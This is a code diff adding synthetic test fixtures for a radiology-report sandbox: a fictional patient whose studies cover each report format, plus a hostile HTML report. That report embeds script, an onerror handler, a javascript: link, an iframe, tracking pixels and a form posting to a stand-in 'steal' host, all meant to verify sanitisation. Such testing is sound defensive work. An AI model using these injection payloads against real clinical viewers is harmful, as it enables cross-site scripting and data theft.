@@ -16,7 +16,9 @@ Patients (EHR ids): ``pat-amy`` (typical), ``pat-ben`` (outside record spells th
 "Benjamen": name-differs badge; STAT CT head with only a preliminary report), ``pat-carla`` (no
 outside identifier: "not linked"), ``pat-dev`` (one archive study carries PatientBirthDate
 1949-11-03 instead of 1949-11-30: the wrong-patient guard withholds it), ``pat-elena`` (an outside
-study whose Endpoint is an unconfigured foreign host).
+study whose Endpoint is an unconfigured foreign host), ``pat-faye`` (one study per report source
+and format: HTML, PDF and RTF ``presentedForm``, a ``DocumentReference``-only note, an empty
+``conclusion``, a DICOM SR and an Encapsulated PDF in the PACS, and a hostile HTML report).
 
 Wrong-patient traps in the DICOMweb archive (documented on ``TRAP_STUDY_KEYS``): another
 patient's study whose PatientID is ``sb100001`` (Amy's MRN in lower case, from a legacy RIS) -
@@ -157,6 +159,16 @@ class SandboxReport:
     conclusion: str
     interpretation: str = "N"
     finding: Code | None = None
+    # The full report (issue 9). `form` is how the EHR presents it: "text" (inline text/plain
+    # presentedForm), "html" / "pdf" / "rtf" (presentedForm.url -> Binary), "none" (conclusion
+    # only). `resource` "DocumentReference" makes it a US Core note only; "dicom" keeps it in the
+    # PACS only (as an SR or Encapsulated PDF, see SandboxStudy.dicom_report).
+    findings: str | None = None
+    form: str = "text"
+    addendum: str | None = None
+    resource: str = "DiagnosticReport"
+    html: str | None = None  # a given HTML body (else one is made from findings + conclusion)
+    comparison: str | None = None
 
 
 @dataclass(frozen=True, slots=True)
@@ -191,6 +203,7 @@ class SandboxStudy:
     order: SandboxOrder | None = None
     outside_patient_id: str | None = None  # subject at the outside facility
     outside_endpoint: str | None = None
+    dicom_report: str | None = None  # "sr" (Basic Text SR) or "pdf" (Encapsulated PDF) series in the PACS
 
     @property
     def modalities(self) -> tuple[str, ...]:
@@ -355,6 +368,23 @@ PATIENTS = (
                    outside_mrn="RRH-550105", outside_id="rrh-9005"),
 )
 
+# Faye: every way a radiology report reaches the chart (issue 9), one study each.
+FAYE = SandboxPatient("pat-faye", "Lindqvist", ("Faye",), date(1968, 3, 9), "female", "SB100006",
+                      outside_mrn="RRH-550106", outside_id="rrh-9006")
+
+#: The hostile HTML report: every element must arrive inert (script, iframe, handlers, javascript:, remote image).
+HOSTILE_REPORT_HTML = (
+    '<h2>Findings</h2><p>Mild tricompartmental degenerative change.'
+    '<img src="https://tracker.invalid/pixel.png" alt="">'
+    '<img src="x" onerror="window.__hostileRan=true"></p>'
+    '<script>window.__hostileRan = true; alert("x")</script>'
+    '<iframe src="https://tracker.invalid/frame"></iframe>'
+    '<style>body{display:none}</style>'
+    '<form action="https://tracker.invalid/steal"><input name="q"><button>Send</button></form>'
+    '<p onclick="window.__hostileRan=true" style="background:url(https://tracker.invalid/bg.png)">'
+    'See <a href="javascript:window.__hostileRan=true">the prior</a>.</p>'
+    '<h2>Impression</h2><p>Moderate osteoarthritis of the knee. No fracture.</p>')
+
 EHR_PACS = frozenset({"ehr", "pacs"})
 EHR_ONLY = frozenset({"ehr"})
 PACS_ONLY = frozenset({"pacs"})
@@ -460,8 +490,11 @@ def _report(key: str, started: datetime, spec: tuple | None) -> SandboxReport | 
         return None
     status, interpretation, conclusion, finding = spec
     issued = started + timedelta(hours=2 if status == "preliminary" else 20)
+    # An amended report's conclusion ends "Addendum: ..." (the row's one line): the addendum is
+    # also presented on its own, as the signed addition it is.
+    addendum = conclusion.split("Addendum:", 1)[1].strip() if "Addendum:" in conclusion else None
     return SandboxReport(f"dr-{key}", status, issued, conclusion, interpretation,
-                         FINDINGS.get(finding) if finding else None)
+                         FINDINGS.get(finding) if finding else None, addendum=addendum)
 
 
 def _order(key: str, started: datetime, spec: tuple | None, reason: str) -> SandboxOrder | None:
@@ -504,10 +537,66 @@ def standard_data(today: date | None = None) -> SandboxData:
             outside_patient_id=patient.outside_id if outside else None, outside_endpoint=endpoint,
         ))
     studies += _traps(today)
+    studies += faye_studies(today)
     scheduled = StandaloneOrder(
         SandboxOrder("sr-amy-mr-knee-followup", "routine", "active", _at(today, 3, 10),
                      "Post-operative follow-up"), "pat-amy", CODES["mr-knee"])
-    return SandboxData(PATIENTS, tuple(studies), (scheduled,))
+    return SandboxData((*PATIENTS, FAYE), tuple(studies), (scheduled,))
+
+
+# (key, days ago, procedure, description, reason, locations, report fields, order priority, DICOM report)
+_FAYE_PLAN: tuple[tuple, ...] = (
+    ("faye-xr-chest", 1900, "xr-chest", "XR CHEST 2 VIEWS", "Persistent cough", EHR_PACS,
+     {"form": "html", "findings": "The lungs are clear. Heart size is normal. No pleural effusion.",
+      "conclusion": "No acute cardiopulmonary process."}, "routine", None),
+    ("faye-ct-abdpel", 1200, "ct-abdpel", "CT ABD/PELVIS W CONTRAST", "Left lower quadrant pain", EHR_PACS,
+     {"form": "pdf", "interpretation": "A", "findings": "Sigmoid diverticula with adjacent fat stranding. "
+      "No abscess or free air.", "conclusion": "Acute uncomplicated sigmoid diverticulitis."}, "urgent", None),
+    ("faye-us-thyroid", 800, "us-thyroid", "US THYROID", "Palpable neck nodule", EHR_ONLY,
+     {"resource": "DocumentReference", "findings": "Right lobe 1.1 cm spongiform nodule (TI-RADS 1). Left "
+      "lobe normal.", "conclusion": "Benign-appearing right thyroid nodule; no follow-up needed."}, "routine",
+     None),
+    ("faye-mr-brain", 500, "mr-brain", "MRI BRAIN WO CONTRAST", "Migraine with aura", EHR_PACS,
+     {"conclusion": "", "findings": "No mass, hemorrhage or infarct. A few punctate T2 white matter "
+      "hyperintensities, nonspecific.\nIMPRESSION: No acute intracranial abnormality; nonspecific white "
+      "matter foci, common in migraine."}, "routine", None),
+    ("faye-ct-chest", 300, "ct-chest", "CT CHEST WO CONTRAST", "Incidental nodule follow-up", PACS_ONLY,
+     {"resource": "dicom", "interpretation": "N", "findings": "Stable 4 mm right lower lobe nodule.",
+      "conclusion": "Stable 4 mm nodule over 12 months: benign, no further follow-up."}, None, "sr"),
+    ("faye-mg", 200, "mg-screen", "MAMMO SCREENING BILATERAL", "Screening", PACS_ONLY,
+     {"resource": "dicom", "form": "pdf", "findings": "Scattered fibroglandular densities. No suspicious "
+      "mass or calcification.", "conclusion": "BI-RADS 1: negative."}, None, "pdf"),
+    ("faye-xr-knee", 60, "xr-knee", "XR KNEE RIGHT 3 VIEWS", "Knee pain", EHR_PACS,
+     {"form": "html", "html": HOSTILE_REPORT_HTML, "interpretation": "A",
+      "conclusion": "Moderate osteoarthritis of the knee. No fracture."}, "routine", None),
+    ("faye-xr-lspine", 20, "xr-lspine", "XR LUMBAR SPINE 2-3 VIEWS", "Low back pain after lifting", EHR_ONLY,
+     {"form": "rtf", "findings": "Normal alignment. Disc heights preserved. No fracture.",
+      "conclusion": "Normal lumbar spine radiographs."}, "routine", None),
+)
+
+
+def faye_studies(today: date) -> list[SandboxStudy]:
+    """Faye's studies: one per report source and format (see _FAYE_PLAN)."""
+    out = []
+    for i, (key, days_ago, proc, desc, reason, locs, fields, priority, dicom_report) in enumerate(_FAYE_PLAN):
+        started = _at(today, days_ago, 9 + i % 7)
+        fields = dict(fields)
+        conclusion = fields.pop("conclusion")
+        interpretation = fields.pop("interpretation", "N")
+        report = SandboxReport(f"dr-{key}", "final", started + timedelta(hours=6), conclusion, interpretation,
+                               **fields)
+        series = _series(key, proc)
+        if dicom_report:
+            modality = "SR" if dicom_report == "sr" else "DOC"
+            series += (SandboxSeries(99, series_uid(key, 99), modality, "Radiology report", series[0].body_site, 1),)
+        out.append(SandboxStudy(
+            key=key, uid=study_uid(key), patient_id=FAYE.id, started=started, description=desc,
+            procedure=CODES[proc], reason=reason, accession=f"SGH{25000 + i * 37:07d}",
+            referrer=REFERRERS[i % len(REFERRERS)], institution=EHR_INSTITUTION, series=series, locations=locs,
+            dicom_patient=FAYE.dicom_patient(), report=report,
+            order=_order(key, started, (priority, "completed"), reason) if priority else None,
+            dicom_report=dicom_report))
+    return out
 
 
 def _traps(today: date) -> list[SandboxStudy]:
